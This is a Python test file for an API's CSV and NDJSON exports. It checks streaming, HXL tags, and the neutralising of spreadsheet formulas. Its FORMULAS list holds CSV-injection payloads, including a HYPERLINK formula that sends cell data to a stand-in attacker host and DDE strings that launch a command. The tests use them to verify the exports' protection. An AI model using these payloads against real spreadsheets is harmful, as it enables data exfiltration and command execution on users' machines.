"""Lists as files: CSV and NDJSON streamed, with the list's filters, and HXL hashtags on request."""

import csv
import io
import json

from fastapi.testclient import TestClient
from sqlalchemy import Engine

from app.api import export
from app.demo import load_demo
from tests.api.helpers import assert_problem, claim, created, source


def test_figures_as_csv_with_claimants_and_filters(client: TestClient, engine: Engine) -> None:
    load_demo(engine)
    response = client.get("/figures", params={"format": "csv", "metric": "killed"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 5
    five = next(r for r in rows if r["low"] == "5.0")
    assert five["claimant_name"] == "Maria Zakharova" and five["modality"] == "hedged" and five["high"] == "5.0"
    assert next(r for r in rows if r["bound"] == "gt")["high"] == ""  # unbounded


def test_ndjson_by_accept_header_and_every_row_past_one_chunk(
    client: TestClient, engine: Engine, monkeypatch: object
) -> None:
    load_demo(engine)
    setattr(export, "CHUNK", 2)  # noqa: B010 - a small chunk proves rows stream across chunks
    try:
        response = client.get("/sources", headers={"Accept": "application/x-ndjson"})
    finally:
        setattr(export, "CHUNK", 5000)  # noqa: B010
    lines = [json.loads(line) for line in response.text.splitlines()]
    assert len(lines) == client.get("/sources").json()["total"] == 10
    assert [line["id"] for line in lines] == sorted(line["id"] for line in lines)


def test_hxl_row_under_the_header(client: TestClient, engine: Engine) -> None:
    load_demo(engine)
    lines = client.get("/figures", params={"format": "csv", "hxl": True}).text.splitlines()
    header, tags = lines[0].split(","), lines[1].split(",")
    assert tags[header.index("low")] == "#affected+num+min" and tags[header.index("claimant_name")].startswith("#org")
    assert_problem(client.get("/figures", params={"format": "ndjson", "hxl": True}), 422, "hxl")


def test_unknown_format_is_422(client: TestClient) -> None:
    assert_problem(client.get("/events", params={"format": "xlsx"}), 422, "query.format")


# --- spreadsheet formulas (CSV injection) ----------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
]


def sheet(text: str, hxl: bool = False) -> list[dict[str, str]]:
    """The cells as a spreadsheet reads the file (the HXL row skipped)."""
    rows = list(csv.DictReader(io.StringIO(text)))
    return rows[1:] if hxl else rows


def test_formulas_in_csv_exports_are_text_and_numbers_stay_numbers(client: TestClient) -> None:
    event = created(client, "/events", {"name": "Strike"})
    for name in FORMULAS:
        claimant = source(client, name)
        claim(client, claimant["id"], [{"event_id": event["id"], "metric": "killed", "text": "5"}])
    for hxl in (False, True):
        names = [r["name"] for r in sheet(client.get("/sources", params={"format": "csv", "hxl": hxl}).text, hxl)]
        assert names == ["'" + name for name in FORMULAS]
        figures = sheet(client.get("/figures", params={"format": "csv", "hxl": hxl}).text, hxl)
        assert [f["claimant_name"] for f in figures] == ["'" + name for name in FORMULAS]
        assert {(f["low"], f["high"]) for f in figures} == {("5.0", "5.0")}
    ndjson = client.get("/sources", params={"format": "ndjson"}).text.splitlines()
    assert [json.loads(line)["name"] for line in ndjson] == FORMULAS  # data, not a sheet: as stored


def test_only_text_cells_are_neutralised() -> None:
    row = {"n": -3.5, "i": -2, "z": 0, "text": "-2+3", "tab": "\tx", "cr": "\rx", "plain": "Bloomberg", "none": None}
    body = b"".join(export.csv_lines(iter([row]), list(row), hxl=False)).decode()
    (cells,) = sheet(body)
    assert cells == {
        "n": "-3.5",
        "i": "-2",
        "z": "0",
        "text": "'-2+3",
        "tab": "'\tx",
        "cr": "'\rx",
        "plain": "Bloomberg",
        "none": "",
    }


def test_every_list_answers_csv_and_ndjson(client: TestClient, engine: Engine) -> None:
    """The README's promise, checked over the OpenAPI document itself: every list (an operation
    answering a page of items) also answers `format=csv` and `format=ndjson` with every row."""
    load_demo(engine)
    spec = client.get("/openapi.json").json()
    lists = [
        path
        for path, item in spec["paths"].items()
        if "get" in item and "Page_" in str(item["get"]["responses"]["200"]["content"].get("application/json", {}))
    ]
    assert len(lists) >= 15
    for path in lists:
        if path == "/search":
            continue  # search ranks hits page by page: it is a query, not a list of records
        url, params = path.replace("{ident}", "1"), {}
        page = client.get(url, params={**params, "limit": 500}).json()
        for fmt in ("csv", "ndjson"):
            response = client.get(url, params={**params, "format": fmt})
            assert response.status_code == 200, (path, fmt, response.text[:200])
            if fmt == "csv":
                rows = list(csv.reader(io.StringIO(response.text)))[1:]  # a quoted text may hold newlines
            else:
                rows = [json.loads(line) for line in response.text.splitlines() if line]
            expected = page["total"] if page["total"] is not None else len(page["items"])
            assert len(rows) == expected, (path, fmt)


def test_a_figures_file_names_the_event_scope_claimant_relays_and_quote(client: TestClient, engine: Engine) -> None:
    load_demo(engine)
    rows = list(csv.DictReader(io.StringIO(client.get("/figures", params={"format": "csv"}).text)))
    five = next(r for r in rows if r["text"].startswith("five"))
    assert five["event_name"].startswith("U.S. strike")
    assert five["scope_name"] == "Russian citizens in the attacking force"
    assert five["claimant_name"] == "Maria Zakharova" and five["relays"] == "The Associated Press"
    assert "may have been killed" in five["quote"]


def test_every_list_refuses_an_unknown_sort_or_page_parameter(client: TestClient, engine: Engine) -> None:
    """A misspelt or unsupported `sort` never silently gives some order: 422 naming `sort`, on every
    list of the OpenAPI document; the changes feed, not a page, refuses page parameters."""
    load_demo(engine)
    spec = client.get("/openapi.json").json()
    for path, item in spec["paths"].items():
        names = {p["name"] for p in item.get("get", {}).get("parameters", [])}
        if "sort" in names:
            assert_problem(client.get(path.replace("{ident}", "1"), params={"sort": "nonsense"}), 422, "sort")
    assert_problem(client.get("/changes", params={"sort": "id"}), 422, "sort")
